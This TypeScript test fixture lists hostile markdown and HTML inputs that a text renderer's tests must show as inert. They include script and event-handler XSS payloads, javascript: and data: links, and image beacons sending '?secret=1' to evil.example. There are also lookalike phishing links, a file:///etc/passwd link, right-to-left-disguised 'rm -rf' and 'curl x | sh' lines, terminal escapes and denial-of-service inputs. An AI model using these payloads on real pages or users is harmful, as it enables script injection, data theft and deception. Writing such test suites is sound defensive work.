/**
 * Text as an attacker would have an agent, a repository or a device write it. Each must be shown as inert text: tests
 * of every place that draws foreign text go through all of them.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script element':
    '<script>globalThis.pwned = 1</script>\n\ntext <script src="https://evil.example/x.js"></script>',
  'an image with a handler':
    '<img src=x onerror="globalThis.pwned = 1">\n\ninline <img src=x onerror=alert(1)>',
  'an svg': '<svg onload="globalThis.pwned = 1"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'mathml that moves markup':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'markup that changes when parsed again': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'markup in a fence’s name': '```"><img src=x onerror=alert(1)>\ncode\n```',
  'markup in code': '`<img src=x onerror=alert(1)>`\n\n```html\n<img src=x onerror=alert(1)>\n```',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a base': '<base href="https://evil.example/">',
  'a frame': '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  'a form': '<form action="https://evil.example"><button formaction="javascript:alert(1)">ok</button></form>',
  'a style':
    '<style>* { background: url(https://evil.example/leak) }</style>\n\n<p style="position:fixed;inset:0">x</p>',
  'a link element':
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/">',
  'a javascript link':
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1)) [e](javascript&colon;alert(1)) [f](<javascript:alert(1)>)',
  'a javascript link by reference': '[a][x] [x]\n\n[x]: javascript:alert(1) "t"',
  'a javascript autolink': '<javascript:alert(1)> <JAVASCRIPT:alert(1)> <vbscript:x> <data:text/html,x>',
  'a data link': '[a](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD4=)',
  'other schemes':
    '[a](vbscript:msgbox) [b](file:///etc/passwd) [c](blob:https://x/y) [d](chrome://settings) [e](chrome-extension://x/y) [f](intent://x#Intent;end) [g](view-source:https://x) [h](//evil.example/x) [i](\\\\evil\\x)',
  'an image that reports':
    '![leak](https://evil.example/?secret=1) ![](//evil.example/x.png) ![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  'an image by reference': '![leak][x]\n\n[x]: https://evil.example/?secret=1',
  'a title with markup':
    '[a](https://ok.example "\\" onmouseover=alert(1) x=\\"") ![a](https://ok.example "<img src=x>")',
  'an address with markup':
    '[a](https://ok.example/"><img src=x onerror=alert(1)>) https://ok.example/"onmouseover="alert(1)',
  'a link in disguise':
    '[https://github.com/login](https://evil.example/login) [x](https://github.com@evil.example) [y](https://xn--80ak6aa92e.com) [z](https://аррӏе.com)',
  'an attribute block':
    '# Title {#location .class onclick=alert(1)}\n\n[a](https://ok.example){onclick=alert(1)}',
  'names of the page':
    '# body\n\n<a id=services name=document href="https://ok.example">clobber</a>\n\n[__proto__]: https://evil.example\n[constructor]: https://evil.example\n\n[__proto__] [constructor] [toString]',
  'right to left':
    'rm -rf \u202e/ emoh \u2066# safe\u2069 `rm \u202egpj.exe`\n\n```sh\ncurl x | sh \u2066 # \u2069\n```',
  'invisible characters': 'pass\u200bword \ufeff\u2060\u00ad\u{e0041}\u{e0042} `a\u200bb\u00a0c`',
  'terminal escapes':
    '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b]0;title\u0007 \u009b31m \b\b\b\u0000',
  'line separators': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'lone halves': 'a\ud800b\udc00c `\ud83d` [x](https://ok.example/\ud800)',
  'a task that submits': '- [x] <input type=image src=x onerror=alert(1)>\n- [ ] <button>ok</button>',
  'a table with markup':
    '| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | `|` |',
  'quotes in quotes': `${'>'.repeat(10_000)} deep`,
  'lists in lists': `${'- '.repeat(10_000)}deep`,
  'lists below lists': Array.from({ length: 300 }, (_, n) => `${' '.repeat(2 * n)}- deep`).join('\n'),
  'quotes and lists': `${'> - '.repeat(5_000)}deep`,
  'emphasis in emphasis': `${'*a **b '.repeat(5_000)}${'c** d* '.repeat(5_000)}`,
  'emphasis without end': '*a_ '.repeat(10_000),
  'brackets without end': '['.repeat(50_000),
  'links without end': '[a]('.repeat(10_000),
  'images in images': `${'!['.repeat(5_000)}x${'](https://x.example)'.repeat(5_000)}`,
  'ticks of many lengths': Array.from({ length: 200 }, (_, n) => '`'.repeat(n)).join(' '),
  'tags without end': '<a href="'.repeat(10_000),
  'comments without end': '<!-- '.repeat(10_000),
  'entities without end': '&#x'.repeat(20_000),
  'a giant line': 'x'.repeat(200_000),
  'a giant line of code': `\`\`\`\n${'x'.repeat(200_000)}\n\`\`\``,
  'many lines': 'x\n'.repeat(20_000),
  'many definitions': Array.from({ length: 5_000 }, (_, n) => `[l${n}]: https://x.example/${n}`).join('\n'),
  'a giant table': `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n|${'b|'.repeat(2_000)}`,
  'a giant heading': `# ${'#'.repeat(50_000)}`,
  'many marks': '| - '.repeat(10_000),
}
